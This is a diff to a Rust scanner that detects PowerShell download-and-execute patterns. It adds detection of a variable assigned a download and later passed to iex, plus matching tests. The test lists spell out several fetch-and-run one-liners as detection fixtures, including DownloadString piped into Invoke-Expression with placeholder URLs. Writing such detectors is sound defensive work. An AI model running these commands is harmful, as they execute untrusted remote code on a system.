@@ -1441,11 +1441,58 @@ pub fn iex_downloads(text: &str) -> Vec<Range<usize>> {
         } else {
             ""
         };
-        if mentions_download(arg) || mentions_download(piped) {
+        if mentions_download(arg)
+            || mentions_download(piped)
+            || var_holds_download(&lower, start, arg)
+        {
             hits.push(start..end);
         }
     }
     hits
+}
+
+/// `iex $script` where `$script = <download>` earlier in the same text.
+fn var_holds_download(lower: &str, before: usize, arg: &str) -> bool {
+    let arg = arg
+        .trim()
+        .trim_start_matches('(')
+        .trim_end_matches(')')
+        .trim();
+    let Some(name) = arg.strip_prefix('$') else {
+        return false;
+    };
+    if name.is_empty()
+        || !name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':')
+    {
+        return false;
+    }
+    let prefix = lower.get(..before).unwrap_or("");
+    let needle = format!("${name}");
+    let mut from = 0;
+    while let Some(i) = prefix.get(from..).and_then(|x| x.find(&needle)) {
+        let at = from + i + needle.len();
+        from = at;
+        if prefix
+            .as_bytes()
+            .get(at)
+            .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
+        {
+            continue;
+        }
+        let rest = prefix.get(at..).unwrap_or("").trim_start();
+        if let Some(value) = rest.strip_prefix('=') {
+            if value.starts_with('=') {
+                continue;
+            }
+            let stmt = value.split([';', '\n']).next().unwrap_or("");
+            if mentions_download(stmt) {
+                return true;
+            }
+        }
+    }
+    false
 }
 
 /// From `start`: the balanced parenthesized group if one starts there, else the text up to the
@@ -1454,7 +1501,10 @@ fn balanced_or_statement(lower: &str, start: usize) -> &str {
     let rest = lower.get(start..).unwrap_or("");
     // A quoted argument (`iex "& { $(irm https://...) }"`): the whole string.
     if let Some(q) = rest.chars().next().filter(|c| *c == '"' || *c == '\'') {
-        let end = rest.get(1..).and_then(|r| r.find(q)).map_or(rest.len(), |p| p + 2);
+        let end = rest
+            .get(1..)
+            .and_then(|r| r.find(q))
+            .map_or(rest.len(), |p| p + 2);
         return rest.get(..end).unwrap_or(rest);
     }
     let mut depth = 0i32;
@@ -1900,6 +1950,7 @@ mod tests {
             "Invoke-Expression (Invoke-WebRequest -Uri $u -UseBasicParsing).Content",
             "& ([scriptblock]::Create((irm https://x/y.ps1)))",
             "iex \"& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI\"",
+            "$x = (New-Object Net.WebClient).DownloadString('https://x/s.ps1'); iex $x",
             "powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('https://x'))\"",
         ];
         for t in bad {
@@ -1910,6 +1961,7 @@ mod tests {
             "Invoke-WebRequest $u -OutFile x.ps1; if ((Get-FileHash x.ps1).Hash -ne $h) { exit 1 }; & .\\x.ps1",
             "Get-Content C:\\x.ps1 | iex",
             "iwr $u -OutFile a.zip; iex 'Write-Host done'",
+            "$x = Get-Content C:\\s.ps1 -Raw; iwr $u -OutFile a.zip; iex $x",
         ];
         for t in good {
             assert!(iex_downloads(t).is_empty(), "{t}");
